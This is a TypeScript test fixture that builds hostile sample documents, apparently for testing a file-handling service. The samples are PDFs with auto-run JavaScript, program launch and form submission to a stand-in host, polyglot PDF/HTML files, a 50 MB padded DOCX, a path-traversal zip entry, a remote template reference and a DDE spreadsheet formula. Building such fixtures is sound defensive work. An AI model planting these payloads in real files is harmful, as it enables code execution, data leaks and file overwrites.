import { sampleHeic, sampleOffice, samplePdf } from '@phantom/service-kit/testing';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { type HostileFile, inertFile, SCRIPT } from './hostile-file.js';

const ZEROS = 50 * 1024 * 1024;

const withParts = (office: Buffer, parts: Record<string, Uint8Array>): Buffer =>
  Buffer.from(zipSync({ ...unzipSync(office), ...parts }));

const pdfWith = (catalogue: string): Buffer =>
  Buffer.from(
    samplePdf().toString('latin1').replace('/Type/Catalog', `/Type/Catalog${catalogue}`),
    'latin1',
  );

/** Documents that are dangerous when they are read as another type, or opened by a program that runs their content. */
export const documentFiles = (): HostileFile[] => [
  inertFile(
    'a PDF that runs a script when it opens',
    'a.pdf',
    pdfWith('/OpenAction<</S/JavaScript/JS(app.alert\\("HOSTILE"\\))>>'),
  ),
  inertFile(
    'a PDF that starts a program',
    'a.pdf',
    pdfWith('/OpenAction<</S/Launch/F(calc.exe)>>'),
  ),
  inertFile(
    'a PDF that opens an address',
    'a.pdf',
    pdfWith('/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>'),
  ),
  inertFile(
    'a PDF that sends itself',
    'a.pdf',
    pdfWith('/OpenAction<</S/SubmitForm/F(http://elsewhere.test/)>>'),
  ),
  inertFile(
    'a PDF that is HTML',
    'a.html',
    Buffer.from(`%PDF-1.4\n<!doctype html>${SCRIPT}\n%%EOF`),
  ),
  inertFile(
    'a PDF that is a script',
    'a.js',
    Buffer.from('%PDF-1.4/1;\ndocument.title="HOSTILE"\n//%%EOF'),
  ),
  inertFile(
    'a document with 50 MB of nothing',
    'a.docx',
    withParts(sampleOffice('docx'), { 'word/media/a.bin': new Uint8Array(ZEROS) }),
  ),
  inertFile(
    'a document that climbs',
    'a.docx',
    withParts(sampleOffice('docx'), { '../../../tmp/hostile': strToU8('x') }),
  ),
  inertFile(
    'a document with a template elsewhere',
    'a.docx',
    withParts(sampleOffice('docx'), {
      'word/_rels/settings.xml.rels': strToU8(
        '<Relationships><Relationship Target="http://elsewhere.test/a.dotm" TargetMode="External"/></Relationships>',
      ),
    }),
  ),
  inertFile(
    'a table with a formula',
    'a.xlsx',
    withParts(sampleOffice('xlsx'), {
      'xl/worksheets/sheet1.xml': strToU8("<worksheet><f>cmd|'/C calc'!A0</f></worksheet>"),
    }),
  ),
  inertFile(
    'the head of a HEIC, and HTML',
    'a.heic',
    Buffer.concat([sampleHeic(), Buffer.from(SCRIPT)]),
  ),
];
